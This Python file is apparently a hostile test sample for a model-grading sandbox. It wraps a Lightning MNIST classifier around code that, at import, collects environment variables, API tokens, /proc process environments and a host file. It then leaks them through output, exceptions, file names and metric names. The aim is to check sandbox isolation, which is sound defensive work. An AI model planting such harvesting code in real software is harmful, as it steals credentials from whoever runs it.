"""Hostile sample: looks for the grader's secrets and leaks whatever it finds everywhere.

A working MNIST classifier that collects the environment, the environments of every
process it can see, and a file of the grading machine (the test writes its path below),
then pushes the haul through every channel a student controls: stdout, stderr, an
exception message, a file in the working directory, a file name and metric names. It
trains normally. Expected: none of the host's secrets is visible in the sandbox, so none
appears in anything the grader writes.
"""

import contextlib
import glob
import json
import os
import re
import sys

import lightning.pytorch as pl
import torch
from lightning.pytorch.callbacks import EarlyStopping, ModelCheckpoint
from torch import nn

# The test writes the path of a file of the grading machine here.
HOST_FILE = "/etc/hostname"
SECRET_NAMES = ("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY")


def read(path: str) -> str:
    try:
        with open(path, errors="replace") as handle:
            return handle.read(4096)
    except OSError as error:
        return f"<{type(error).__name__}>"


def steal() -> dict:
    haul = {"environ": dict(os.environ), "file": read(HOST_FILE)}
    haul["file_via_proc"] = read(f"/proc/1/root{HOST_FILE}")
    haul["secrets"] = {name: os.environ.get(name) for name in SECRET_NAMES}
    haul["processes"] = {
        path: read(path).replace("\0", " ") for path in sorted(glob.glob("/proc/[0-9]*/environ"))
    }
    return haul


def announce(haul: dict) -> str:
    text = json.dumps(haul, sort_keys=True)
    print("loot:", text)
    print("loot:", text, file=sys.stderr)
    with open("hostile-loot.txt", "w") as handle:
        handle.write(text)
    raise RuntimeError(f"loot: {text[:400]}")


def tag(haul: dict) -> str:
    """The haul squeezed into a name: letters, digits and underscores."""
    values = [str(haul["file"]), *map(str, haul["secrets"].values())]
    return re.sub(r"\W+", "_", "_".join(values))[:120]


# Runs at import, because the class below needs it; its exception is the last channel.
STOLEN = announce(steal())


class MyAwesomeModel(pl.LightningModule):
    def __init__(self) -> None:
        super().__init__()
        with contextlib.suppress(NameError):  # it raised: that was the point
            self.stolen = STOLEN
        self.tag = tag(steal())
        with open(f"hostile-loot-{self.tag[:60]}", "w") as handle:
            handle.write(self.tag)
        self.net = nn.Sequential(nn.Flatten(), nn.Linear(784, 64), nn.ReLU(), nn.Linear(64, 10))
        self.loss_fn = nn.CrossEntropyLoss()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.net(x)

    def training_step(self, batch, batch_idx):
        x, y = batch
        loss = self.loss_fn(self(x), y)
        self.log("train_loss", loss)
        return loss

    def validation_step(self, batch, batch_idx):
        x, y = batch
        self.log("val_loss", self.loss_fn(self(x), y))
        self.log(f"loot_{self.tag}", 0.0)

    def configure_optimizers(self):
        return torch.optim.Adam(self.parameters(), lr=3e-3)


if __name__ == "__main__":
    trainer = pl.Trainer(
        max_epochs=3,
        callbacks=[ModelCheckpoint(monitor="val_loss"), EarlyStopping(monitor="val_loss")],
    )
